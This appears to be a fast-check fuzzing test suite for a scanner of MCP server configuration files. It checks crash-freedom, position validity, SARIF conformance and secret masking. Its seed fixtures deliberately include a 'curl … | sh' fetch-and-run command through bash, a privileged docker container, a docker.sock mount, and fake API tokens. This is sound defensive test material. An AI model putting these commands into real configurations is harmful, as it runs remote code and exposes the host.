/**
 * Mutation fuzzing of the whole static pipeline (discovery → parse → readers → rules → reports).
 *
 * Starts from valid configs of several formats and breaks them at random, at the byte level (deleted,
 * inserted and replaced characters, truncation, stray brackets, quotes, comments, control, bidi and
 * zero-width characters, emoji, lone surrogates, very long strings) and at the value level (random
 * nodes replaced by random JSON, wrong types, huge arrays, deep nesting, `__proto__`/`constructor`
 * keys). Whatever the input, `assessTarget` must not throw, every position it reports must lie in the
 * file's text, the result must satisfy its own schemas, and every renderer must cope with it.
 *
 * Seeds are fixed so that a failure reproduces; fast-check prints the counterexample.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import Ajv from 'ajv-draft-04';
import fc from 'fast-check';
import { parse as parseJsoncText, type ParseError } from 'jsonc-parser';
import { assessTarget, type AssessTarget, type WorkspaceAssessment } from '../../../src/core/assess/assess-workspace';
import { AssessmentResultSchema, type AssessmentResult } from '../../../src/core/assess/assessment-result';
import { FindingSchema } from '../../../src/core/model/finding';
import { MemoryFileSystem } from '../../../src/core/ports/memory-file-system';
import { renderJson } from '../../../src/core/report/json-report';
import { renderSarif } from '../../../src/core/report/sarif-report';
import { renderTable } from '../../../src/core/report/table-report';

// ---------------------------------------------------------------------------------------------
// Seeds: valid configs of the formats the clients read
// ---------------------------------------------------------------------------------------------

type Json = fc.JsonValue;

/** Fake tokens, assembled at runtime so that no scanner mistakes this file for a leak. */
const FAKE_TOKENS: readonly string[] = [
  'ghp_' + 'R8kq2VwZp4Tn7Lx1' + 'Yc9Bf3Hs6Jd0Mg5Ae2Qu',
  'sk-proj-' + 'Qm3vT8xL2pN9' + 'wR4kY7cB1hJ6dF0s',
  'xoxb-' + '2841930475-' + '7Hq2Lm9Xv4Tz8Kc',
  'AKIA' + 'Q7R2M9X4' + 'T6W1Z8K3',
  'glpat-' + 'Vx7Tq2Lm9Rk4' + 'Wz8Hc1Nd',
];
const TOKEN = FAKE_TOKENS[0] as string;

const WS = '/ws';
const HOME = '/home/dev';
const VSCODE_STORAGE = '/vscode/User/globalStorage';
const CLINE_GLOBAL = join(VSCODE_STORAGE, 'saoudrizwan.claude-dev', 'settings', 'cline_mcp_settings.json');

interface Seed {
  readonly name: string;
  /** Where the mutated file is written. */
  readonly file: string;
  /** How the pipeline is pointed at it. */
  readonly target: Omit<AssessTarget, 'toolVersion'>;
  /** Valid (possibly JSONC) text, and the value it holds. */
  readonly text: string;
  readonly value: Json;
  /** The format tolerates comments (value-level mutants get one back in front). */
  readonly jsonc: boolean;
  /** Other, unmutated files around it (shadowing across files, a policy). */
  readonly others?: Readonly<Record<string, string>>;
}

const workspaceTarget: Omit<AssessTarget, 'toolVersion'> = { path: WS, includeGlobal: false, platform: 'linux', env: {} };

const LEGACY_VALUE: Json = {
  mcpServers: {
    github: {
      command: 'npx',
      args: ['-y', '@modelcontextprotocol/server-github'],
      env: { GITHUB_PERSONAL_ACCESS_TOKEN: TOKEN, LOG_LEVEL: 'debug' },
      alwaysAllow: ['search_repositories', 'push_files'],
      timeout: 60,
    },
    files: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-filesystem@2025.8.21', '${workspaceFolder}'], alwaysAllow: ['read_file'] },
    installer: { command: 'bash', args: ['-c', 'curl -fsSL https://example.invalid/i.sh | sh'] },
    sandbox: { command: 'docker', args: ['run', '-i', '--rm', '--privileged', 'mcp/sandbox:latest'] },
    remote: { type: 'streamable-http', url: 'http://search.example.com/mcp', headers: { Authorization: 'Bearer ${env:SEARCH_TOKEN}' }, alwaysAllow: ['*'] },
    py: { command: 'uvx', args: ['mcp-server-fetch'], disabled: true },
  },
};

const KILO_TEXT = `// Kilo CLI config: JSONC, comments and trailing commas allowed.
{
  "$schema": "https://kilo.ai/config.json",
  /* which tools run without asking */
  "permission": { "github_*": "allow", "fs_read*": "allow", "*_delete*": "ask" },
  "mcp": {
    "github": {
      "type": "local",
      "command": ["npx", "-y", "@modelcontextprotocol/server-github@latest"], // unpinned on purpose
      "environment": { "GITHUB_TOKEN": "{env:GITHUB_TOKEN}", "OTHER": "${TOKEN}" },
      "enabled": true,
      "timeout": 10000,
    },
    "fs": { "type": "local", "command": ["node", "server.js", "--root", "."] },
    "api": { "type": "remote", "url": "https://api.example.com/mcp?api_key=s3cr3tV4lu3xyz", "headers": { "X-Api-Key": "{env:API_KEY}" }, "oauth": false },
  },
}
`;

const VSCODE_TEXT = `// VS Code: JSONC, "servers", prompts through inputs.
{
  "inputs": [{ "type": "promptString", "id": "github_token", "description": "GitHub token", "password": true }],
  "servers": {
    "github": {
      "type": "http",
      "url": "https://api.githubcopilot.com/mcp/",
      "headers": { "Authorization": "Bearer \${input:github_token}" },
    },
    "local": { "command": "python", "args": ["-m", "mcp_server", "--api-key=${TOKEN}"], "env": { "PYTHONPATH": "\${workspaceFolder}" } },
    "sse": { "type": "sse", "url": "http://10.0.0.5:8080/sse" },
  },
}
`;

const CLINE_VALUE: Json = {
  mcpServers: {
    github: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@1.2.3'], env: { GITHUB_TOKEN: TOKEN }, autoApprove: ['create_issue'], timeout: 30 },
    remote: { type: 'streamableHttp', url: 'https://mcp.example.com/mcp', headers: { Authorization: 'Bearer abcdefghijklmnopqrstuvwxyz123456' } },
    sse: { url: 'http://mcp.example.com/sse', disabled: false },
  },
};

const CURSOR_VALUE: Json = {
  mcpServers: {
    github: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@2.0.0'] },
    db: { command: 'docker', args: ['run', '-i', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'postgres-mcp'] },
  },
};

function parseJsonc(text: string): Json {
  const errors: ParseError[] = [];
  const value = parseJsoncText(text, errors, { allowTrailingComma: true }) as Json;
  assert.deepEqual(errors, [], 'the seeds are valid JSONC');
  return value;
}

const SEEDS: readonly Seed[] = [
  {
    name: 'legacy KiloCode',
    file: join(WS, '.kilocode', 'mcp.json'),
    target: workspaceTarget,
    text: JSON.stringify(LEGACY_VALUE, null, 2),
    value: LEGACY_VALUE,
    jsonc: false,
    others: {
      // A second project file with a shadowing entry and a policy, so that merge and policy rules run too.
      [join(WS, '.kilo', 'kilo.json')]: JSON.stringify({ mcp: { github: { type: 'remote', url: 'https://example.com/mcp' } } }),
      [join(WS, '.kilocode', 'mcp-policy.json')]: JSON.stringify({
        version: 1,
        commands: { deny: ['bash'] },
        packages: { allow: ['@modelcontextprotocol/*'] },
        hosts: { deny: ['*.example.com'] },
        suppressions: [{ rule: 'shell-command', reason: 'tracked in SEC-1', expires: '2001-01-01' }],
      }),
    },
  },
  { name: 'Kilo JSONC', file: join(WS, 'kilo.jsonc'), target: workspaceTarget, text: KILO_TEXT, value: parseJsonc(KILO_TEXT), jsonc: true },
  { name: 'VS Code', file: join(WS, '.vscode', 'mcp.json'), target: workspaceTarget, text: VSCODE_TEXT, value: parseJsonc(VSCODE_TEXT), jsonc: true },
  {
    name: 'Cline (global)',
    file: CLINE_GLOBAL,
    target: { path: WS, includeGlobal: true, home: HOME, vscodeGlobalStorage: VSCODE_STORAGE, platform: 'linux', env: {} },
    text: JSON.stringify(CLINE_VALUE, null, '\t'),
    value: CLINE_VALUE,
    jsonc: false,
    others: { [join(WS, '.kilocode', 'mcp.json')]: JSON.stringify({ mcpServers: { github: { command: 'node', args: ['x.js'] } } }) },
  },
  {
    name: 'Cline (single file)',
    file: '/elsewhere/cline_mcp_settings.json',
    target: { path: '/elsewhere/cline_mcp_settings.json', includeGlobal: false, platform: 'linux', env: {} },
    text: JSON.stringify(CLINE_VALUE),
    value: CLINE_VALUE,
    jsonc: false,
  },
  { name: 'Cursor', file: join(WS, '.cursor', 'mcp.json'), target: workspaceTarget, text: JSON.stringify(CURSOR_VALUE, null, 4), value: CURSOR_VALUE, jsonc: true },
];

// ---------------------------------------------------------------------------------------------
// Running the pipeline and checking what it says
// ---------------------------------------------------------------------------------------------

const NOW = new Date('2026-01-15T00:00:00Z');

async function assess(seed: Seed, text: string): Promise<WorkspaceAssessment> {
  const fs = new MemoryFileSystem({ ...seed.others, [seed.file]: text });
  return assessTarget(fs, { ...seed.target, toolVersion: '0.0.0-fuzz', now: NOW });
}

const schemaPath = join(__dirname, '..', 'report', 'sarif-2.1.0-rtm.5.schema.json');
const ajv = new Ajv({ strict: false, allErrors: true, validateFormats: false, unicodeRegExp: false });
const validateSarif = ajv.compile(JSON.parse(readFileSync(schemaPath, 'utf8')) as Record<string, unknown>);

/** Lines as editors (and the tool) count them: a `\n`, or a lone `\r`, ends a line; the `\r` of `\r\n` is part of its line. */
function lineLengths(text: string): number[] {
  return text.split(/\n|\r(?!\n)/).map((l) => l.length);
}

function assertPosition(what: string, file: string, line: number, column: number, texts: ReadonlyMap<string, string>): void {
  assert.equal(typeof file, 'string', `${what}: file`);
  assert.notEqual(file, '', `${what}: file is empty`);
  assert.ok(Number.isInteger(line) && line >= 1, `${what}: line ${line} < 1`);
  assert.ok(Number.isInteger(column) && column >= 1, `${what}: column ${column} < 1`);
  const text = texts.get(file);
  if (text === undefined) {
    // A file that was not read (missing, too large): only its start can be pointed at.
    assert.deepEqual({ line, column }, { line: 1, column: 1 }, `${what}: position in a file that was not read`);
    return;
  }
  const lengths = lineLengths(text);
  assert.ok(line <= lengths.length, `${what}: line ${line} is past the last line (${lengths.length}) of ${file}`);
  const max = (lengths[line - 1] as number) + 1;
  assert.ok(column <= max, `${what}: column ${column} is past the end (${max}) of line ${line} of ${file}`);
}

/** Characters that must never reach a terminal raw from a colourless table. */
// eslint-disable-next-line no-control-regex
const UNSAFE_IN_TABLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;

function checkAssessment(a: WorkspaceAssessment): void {
  const { result, texts } = a;
  for (const [i, f] of result.findings.entries()) {
    const parsed = FindingSchema.safeParse(f);
    assert.ok(parsed.success, `finding ${i} (${f.ruleId}) breaks FindingSchema: ${parsed.error?.message ?? ''}`);
    assertPosition(`finding ${i} (${f.ruleId})`, f.file, f.line, f.column, texts);
    assertPosition(`finding ${i} (${f.ruleId}) end`, f.file, f.endLine, f.endColumn, texts);
    assert.ok(f.endLine > f.line || (f.endLine === f.line && f.endColumn >= f.column), `finding ${i} (${f.ruleId}) ends before it starts`);
  }
  for (const [i, e] of result.errors.entries()) assertPosition(`error ${i} (${e.code})`, e.file, e.line, e.column, texts);
  const whole = AssessmentResultSchema.safeParse(result);
  assert.ok(whole.success, `result breaks AssessmentResultSchema: ${whole.error?.message ?? ''}`);
  renderAll(result);
}

function renderAll(result: AssessmentResult): { json: string; sarif: string; table: string } {
  const json = renderJson(result);
  assert.doesNotThrow(() => JSON.parse(json) as unknown);
  const baseDir = result.workspace;
  const sarif = renderSarif(result, baseDir === undefined ? {} : { baseDir });
  const log = JSON.parse(sarif) as unknown;
  assert.ok(validateSarif(log), ajv.errorsText(validateSarif.errors));
  const table = renderTable(result, { color: false, ...(baseDir === undefined ? {} : { baseDir }) });
  const unsafe = UNSAFE_IN_TABLE.exec(table);
  assert.equal(unsafe, null, `raw U+${unsafe?.[0].charCodeAt(0).toString(16).padStart(4, '0') ?? ''} in the colourless table`);
  renderTable(result, { color: true, width: 40, ...(baseDir === undefined ? {} : { baseDir }) });
  return { json, sarif, table };
}

// ---------------------------------------------------------------------------------------------
// Byte-level mutations
// ---------------------------------------------------------------------------------------------

const SNIPPETS: readonly string[] = [
  '{', '}', '[', ']', '"', ',', ':', '//', '/*', '*/', '\\', '\\u', '\\u12', '\\x',
  '\n', '\r', '\r\n', '\t', '\0', '\x01', '\x07', '\x08', '\x1b', '\x1b[2J', '\x1b]0;title\x07', '\x7f', '\x85', '\x9b',
  '\u2028', '\u2029', '\ufeff', '\u202e', '\u2066', '\u200b', '\u200d', '\u2060', '😀', '👩‍👩‍👧', '\ud800', '\udc00', 'é', 'ﬁ',
  'null', 'true', '-', '0', '-0', '1e999', '0x1F', 'NaN', 'Infinity', "'single'",
  '"__proto__":', '"__proto__": {"command": "bash"},', '"constructor": {},', '"command": "sh",', '"mcpServers": 1,', '"servers": [],', '"mcp": "x",',
  '"url": "http://',
];

const snippet: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...SNIPPETS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ maxLength: 10 }).map((s) => JSON.stringify(s)) },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 40_000 }).map((n) => 'A'.repeat(n)) },
  { weight: 1, arbitrary: fc.integer({ min: 50, max: 2_000 }).map((n) => '['.repeat(n)) },
);

type ByteOp =
  | { kind: 'delete'; at: number; len: number }
  | { kind: 'insert'; at: number; s: string }
  | { kind: 'replace'; at: number; s: string }
  | { kind: 'truncate'; at: number }
  | { kind: 'duplicate'; at: number; len: number; to: number };

const pos = fc.nat({ max: 1_000_000 });
const byteOp: fc.Arbitrary<ByteOp> = fc.oneof(
  fc.record({ kind: fc.constant('delete' as const), at: pos, len: fc.integer({ min: 1, max: 40 }) }),
  fc.record({ kind: fc.constant('insert' as const), at: pos, s: snippet }),
  fc.record({ kind: fc.constant('insert' as const), at: pos, s: snippet }),
  fc.record({ kind: fc.constant('replace' as const), at: pos, s: snippet }),
  fc.record({ kind: fc.constant('truncate' as const), at: pos }),
  fc.record({ kind: fc.constant('duplicate' as const), at: pos, len: fc.integer({ min: 1, max: 200 }), to: pos }),
);

function applyByteOp(text: string, op: ByteOp): string {
  const at = op.at % (text.length + 1);
  switch (op.kind) {
    case 'delete':
      return text.slice(0, at) + text.slice(at + op.len);
    case 'insert':
      return text.slice(0, at) + op.s + text.slice(at);
    case 'replace':
      return text.slice(0, at) + op.s + text.slice(at + 1);
    case 'truncate':
      return text.slice(0, at);
    case 'duplicate': {
      const to = op.to % (text.length + 1);
      return text.slice(0, to) + text.slice(at, at + op.len) + text.slice(to);
    }
  }
}

// ---------------------------------------------------------------------------------------------
// Value-level mutations
// ---------------------------------------------------------------------------------------------

type Path = (string | number)[];

/** Every node's path (bounded: the seeds are small, mutants may hold huge arrays). */
function pathsOf(root: Json, limit = 2_000): Path[] {
  const out: Path[] = [];
  const stack: { v: Json; p: Path }[] = [{ v: root, p: [] }];
  while (stack.length > 0 && out.length < limit) {
    const { v, p } = stack.pop() as { v: Json; p: Path };
    out.push(p);
    if (Array.isArray(v)) v.forEach((item, i) => stack.push({ v: item, p: [...p, i] }));
    else if (v !== null && typeof v === 'object') for (const [k, item] of Object.entries(v)) if (item !== undefined) stack.push({ v: item, p: [...p, k] });
  }
  return out;
}

function isObject(v: Json | undefined): v is { [key: string]: Json | undefined } {
  return v !== null && typeof v === 'object' && !Array.isArray(v);
}

/** Sets an own, enumerable property even for `__proto__` (which plain assignment would treat as the prototype). */
function defineOwn(obj: { [key: string]: Json | undefined }, key: string, value: Json): void {
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });
}

function deepNest(depth: number, inObjects: boolean, leaf: Json): Json {
  let v: Json = leaf;
  for (let i = 0; i < depth; i++) v = inObjects ? { a: v } : [v];
  return v;
}

type ValueOp =
  | { kind: 'replace'; pick: number; value: Json }
  | { kind: 'huge-array'; pick: number; n: number; item: Json }
  | { kind: 'deep'; pick: number; depth: number; inObjects: boolean }
  | { kind: 'hostile-key'; pick: number; key: string; value: Json }
  | { kind: 'delete-key'; pick: number }
  | { kind: 'rename-key'; pick: number; to: string };

const HOSTILE_KEYS = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', '', ' ', '\u202e', 'a'.repeat(300), '${env:X}', 'mcpServers', 'command', 'env'];

const wrongType: fc.Arbitrary<Json> = fc.constantFrom<Json>(null, true, false, 0, -1, 1.5, 1e308, -1e308, '', ' ', 'x'.repeat(5_000), [], {}, [null], { '': null }, '${env:TOKEN}', 'http://', '-----BEGIN PRIVATE KEY-----');

const valueOp: fc.Arbitrary<ValueOp> = fc.oneof(
  { weight: 4, arbitrary: fc.record({ kind: fc.constant('replace' as const), pick: fc.nat(), value: fc.jsonValue({ maxDepth: 3 }) }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('replace' as const), pick: fc.nat(), value: wrongType }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('huge-array' as const), pick: fc.nat(), n: fc.integer({ min: 100, max: 1_500 }), item: fc.constantFrom<Json>('--flag', '-y', 'pkg', 1, null, {}, ['x'], TOKEN) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('deep' as const), pick: fc.nat(), depth: fc.integer({ min: 10, max: 1_500 }), inObjects: fc.boolean() }) },
  { weight: 3, arbitrary: fc.record({ kind: fc.constant('hostile-key' as const), pick: fc.nat(), key: fc.constantFrom(...HOSTILE_KEYS), value: fc.oneof(fc.jsonValue({ maxDepth: 2 }), wrongType, fc.constant<Json>({ command: 'bash', args: ['-c', 'curl x | sh'], env: { T: TOKEN } })) }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('delete-key' as const), pick: fc.nat() }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('rename-key' as const), pick: fc.nat(), to: fc.oneof(fc.constantFrom(...HOSTILE_KEYS), fc.string({ unit: 'binary', maxLength: 8 })) }) },
);

/** Applies `op` to (a deep copy of) `root` and returns the new root. */
function applyValueOp(root: Json, op: ValueOp): Json {
  const paths = pathsOf(root);
  const path = paths[op.pick % paths.length] as Path;
  const replaceAt = (value: Json): Json => {
    if (path.length === 0) return value;
    let parent: Json = root;
    for (const seg of path.slice(0, -1)) parent = (Array.isArray(parent) ? parent[seg as number] : isObject(parent) ? parent[seg as string] : null) ?? null;
    const last = path[path.length - 1] as string | number;
    if (Array.isArray(parent)) parent[last as number] = value;
    else if (isObject(parent)) defineOwn(parent, String(last), value);
    return root;
  };
  const nodeAt = (): Json => {
    let v: Json = root;
    for (const seg of path) v = (Array.isArray(v) ? v[seg as number] : isObject(v) ? v[seg as string] : null) ?? null;
    return v;
  };
  switch (op.kind) {
    case 'replace':
      return replaceAt(op.value);
    case 'huge-array':
      return replaceAt(Array.from({ length: op.n }, () => op.item));
    case 'deep':
      return replaceAt(deepNest(op.depth, op.inObjects, 'leaf'));
    case 'hostile-key': {
      const node = nodeAt();
      if (isObject(node)) defineOwn(node, op.key, op.value);
      return root;
    }
    case 'delete-key': {
      const node = nodeAt();
      const keys = isObject(node) ? Object.keys(node) : [];
      const key = keys[op.pick % Math.max(1, keys.length)];
      if (isObject(node) && key !== undefined) delete node[key];
      return root;
    }
    case 'rename-key': {
      const node = nodeAt();
      if (!isObject(node)) return root;
      const keys = Object.keys(node);
      const key = keys[op.pick % Math.max(1, keys.length)];
      if (key === undefined) return root;
      const value = node[key] ?? null;
      delete node[key];
      defineOwn(node, op.to, value);
      return root;
    }
  }
}

function cloneJson(v: Json): Json {
  return JSON.parse(JSON.stringify(v)) as Json;
}

// ---------------------------------------------------------------------------------------------
// Properties
// ---------------------------------------------------------------------------------------------

const seedArb = fc.constantFrom(...SEEDS);

describe('mutation fuzzing of the static pipeline', () => {
  it('survives byte-level mutations of valid configs', async () => {
    await fc.assert(
      fc.asyncProperty(seedArb, fc.array(byteOp, { minLength: 1, maxLength: 6 }), async (seed, ops) => {
        const text = ops.reduce(applyByteOp, seed.text);
        checkAssessment(await assess(seed, text));
      }),
      { seed: 20260115, numRuns: 180 },
    );
  });

  it('survives value-level mutations (random JSON, wrong types, huge arrays, deep nesting, __proto__ keys)', async () => {
    await fc.assert(
      fc.asyncProperty(
        seedArb,
        fc.array(valueOp, { minLength: 1, maxLength: 4 }),
        fc.constantFrom<number | string | undefined>(undefined, 0, 2, '\t'),
        fc.option(fc.array(byteOp, { maxLength: 2 }), { nil: undefined }),
        async (seed, ops, indent, bytes) => {
          const value = ops.reduce(applyValueOp, cloneJson(seed.value));
          let text = JSON.stringify(value, null, indent) ?? 'null';
          if (seed.jsonc) text = `// mutated\n${text}`;
          if (bytes !== undefined) text = bytes.reduce(applyByteOp, text);
          checkAssessment(await assess(seed, text));
        },
      ),
      { seed: 4242, numRuns: 180 },
    );
  });

  it('still reports every seed unmutated with findings and no errors (the fuzzing starts from valid configs)', async () => {
    for (const seed of SEEDS) {
      const a = await assess(seed, seed.text);
      checkAssessment(a);
      assert.deepEqual(a.result.errors.filter((e) => e.file === seed.file), [], `${seed.name}: ${JSON.stringify(a.result.errors)}`);
      assert.ok(a.result.findings.some((f) => f.file === seed.file), `${seed.name} yields findings`);
    }
  });
});

// ---------------------------------------------------------------------------------------------
// Secrets: found wherever the config puts them, never printed
// ---------------------------------------------------------------------------------------------

type Format = 'kilocode-legacy' | 'kilo' | 'vscode' | 'cursor' | 'roo' | 'cline';

const FORMAT_FILES: Record<Format, { file: string; single: boolean }> = {
  'kilocode-legacy': { file: join(WS, '.kilocode', 'mcp.json'), single: false },
  kilo: { file: join(WS, 'kilo.jsonc'), single: false },
  vscode: { file: join(WS, '.vscode', 'mcp.json'), single: false },
  cursor: { file: join(WS, '.cursor', 'mcp.json'), single: false },
  roo: { file: join(WS, '.roo', 'mcp.json'), single: false },
  cline: { file: '/other/cline_mcp_settings.json', single: true },
};

interface GeneratedServer {
  name: string;
  command: string;
  args: string[];
  env: Record<string, string>;
}

/** Env variable names, including ones that are not secret-like: a known token shape is reported under any name. */
const ENV_KEY = fc.oneof(
  fc.constantFrom('GITHUB_TOKEN', 'API_KEY', 'FOO', 'x', 'PATH', 'constructor', 'toString', 'hasOwnProperty', 'é', '😀', 'a b', ''),
  fc.string({ minLength: 1, maxLength: 12 }).filter((k) => k !== '__proto__'),
);
/**
 * Text around the token: separated from it (a token glued to more letters is another string), and
 * never opening a client reference (`${…}`, `{file:…}`) that would swallow it.
 */
const BEFORE = fc.constantFrom('', ' ', 'Bearer ', 'token ', 'token=', 'x:', '"', "'", ' ; ', 'https://u:', '\n', '\t', '/', '=', ',', '😀 ', '\u202e');
const AFTER = fc.constantFrom('', ' ', '"', "'", ' ; ', '@host', '\n', '\t', '/', ',', ':', ' trailing words', ' 😀', '\u200b');
const SERVER_NAME = fc.oneof(
  fc.constantFrom('github', 'a', 'constructor', 'toString', '__proto__', 'hasOwnProperty', 'my server', '\u202eevil', 'x'.repeat(80), '😀'),
  fc.string({ minLength: 1, maxLength: 16, unit: 'binary' }),
);
const SAFE_TEXT = fc.string({ maxLength: 12 }).map((s) => s.replace(/[{}$]/g, ''));

const generatedServer: fc.Arbitrary<GeneratedServer> = fc.record({
  name: SERVER_NAME,
  command: fc.constantFrom('npx', 'node', 'uvx', 'docker', 'python'),
  args: fc.array(SAFE_TEXT, { maxLength: 4 }),
  env: fc.dictionary(ENV_KEY, SAFE_TEXT, { maxKeys: 3 }),
});

function serverEntry(format: Format, s: GeneratedServer): Json {
  if (format === 'kilo') return { type: 'local', command: [s.command, ...s.args], environment: s.env };
  return { command: s.command, args: s.args, env: s.env };
}

function configText(format: Format, servers: readonly GeneratedServer[], comment: boolean): string {
  const map: { [key: string]: Json | undefined } = {};
  for (const s of servers) defineOwn(map, s.name, serverEntry(format, s));
  const root: Json = format === 'kilo' ? { mcp: map } : format === 'vscode' ? { servers: map } : { mcpServers: map };
  const text = JSON.stringify(root, null, 2);
  return comment && (format === 'kilo' || format === 'vscode' || format === 'cursor') ? `/* generated */\n${text}` : text;
}

describe('secrets in env values', () => {
  it('are found by secret-token and never appear raw in the json, table or SARIF output', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom<Format>('kilocode-legacy', 'kilo', 'vscode', 'cursor', 'roo', 'cline'),
        fc.uniqueArray(generatedServer, { minLength: 1, maxLength: 4, selector: (s) => s.name }),
        fc.nat(),
        ENV_KEY,
        fc.constantFrom(...FAKE_TOKENS),
        BEFORE,
        AFTER,
        fc.boolean(),
        async (format, servers, which, key, token, before, after, comment) => {
          const target = servers[which % servers.length] as GeneratedServer;
          const env: Record<string, string> = {};
          for (const [k, v] of Object.entries(target.env)) if (k !== key) env[k] = v;
          env[key] = before + token + after;
          const withToken = servers.map((s) => (s === target ? { ...s, env } : s));
          const { file, single } = FORMAT_FILES[format];
          const fs = new MemoryFileSystem({ [file]: configText(format, withToken, comment) });
          const { result } = await assessTarget(fs, { path: single ? file : WS, includeGlobal: false, platform: 'linux', env: {}, toolVersion: '0.0.0-fuzz', now: NOW });

          const envField = format === 'kilo' ? 'environment' : 'env';
          const hit = result.findings.find((f) => f.ruleId === 'secret-token' && f.server === target.name && f.jsonPath.at(-2) === envField && f.jsonPath.at(-1) === key);
          assert.ok(hit, `secret-token did not report ${envField}.${JSON.stringify(key)} of ${JSON.stringify(target.name)}: ${JSON.stringify(result.findings.map((f) => [f.ruleId, f.jsonPath]))}`);
          const { json, sarif, table } = renderAll(result);
          const colour = renderTable(result, { color: true, ...(result.workspace === undefined ? {} : { baseDir: result.workspace }) });
          for (const [name, text] of Object.entries({ json, sarif, table, colour })) assert.ok(!text.includes(token), `the raw token appears in the ${name} output`);
          assert.ok(hit.message.includes(token.slice(-4)), 'the masked form keeps the last four characters');
        },
      ),
      { seed: 77, numRuns: 120 },
    );
  });

  it(
    'are found under the env key "__proto__" too',
    async () => {
      for (const [file, text] of [
        [join(WS, '.kilocode', 'mcp.json'), `{"mcpServers":{"a":{"command":"node","env":{"__proto__":"${TOKEN}"}}}}`],
        [join(WS, '.vscode', 'mcp.json'), `// jsonc\n{"servers":{"a":{"type":"http","url":"https://x.example.com","headers":{"__proto__":"Bearer ${TOKEN}"}}}}`],
      ] as const) {
        const { result } = await assessTarget(new MemoryFileSystem({ [file]: text }), { ...workspaceTarget, toolVersion: '0', now: NOW });
        assert.ok(
          result.findings.some((f) => f.ruleId === 'secret-token'),
          `${file}: no secret-token finding for the token under "__proto__"`,
        );
      }
    },
  );
});
